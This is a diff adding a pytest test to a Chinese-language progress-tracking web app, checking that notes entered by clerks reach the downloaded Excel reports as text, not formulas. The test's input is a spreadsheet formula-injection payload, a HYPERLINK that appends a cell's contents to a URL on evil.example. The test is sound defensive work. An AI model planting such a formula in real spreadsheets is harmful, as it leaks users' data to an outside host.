@@ -560,3 +560,22 @@ class TestPercentCells:
         assert 400 == answer.status_code
         assert "显示为 10000%" in answer.text and "请填写 100%（或 100）" in answer.text
         assert before == _writes(ledger)
+
+
+class TestDownloadsCarryNoFormulas:
+    def test_note_starting_with_equals(self, client: TestClient, sample: ft.Plan) -> None:
+        """A clerk's note ``=HYPERLINK(...)`` reaches the office's Excel report and the template as text, never
+        as a formula (no ``<f>`` element in any sheet)."""
+        import io
+        import zipfile
+
+        login(client, "zf")
+        bad = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
+        assert 303 == client.post(f"/tasks/{_mine(sample)}/progress", follow_redirects=False, data={
+            "csrf": csrf(client), "status": "推进中", "percent": "40", "on": "2021-06-24", "note": bad}).status_code
+        template = client.get("/progress/template.xlsx").content
+        login(client, "fzb")
+        for blob in (client.get("/download/weekly.xlsx", params={"week_ending": "2021-06-25"}).content, template):
+            with zipfile.ZipFile(io.BytesIO(blob)) as book:
+                sheets = [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
+            assert sheets and not any(b"<f>" in s or b"<f " in s for s in sheets)
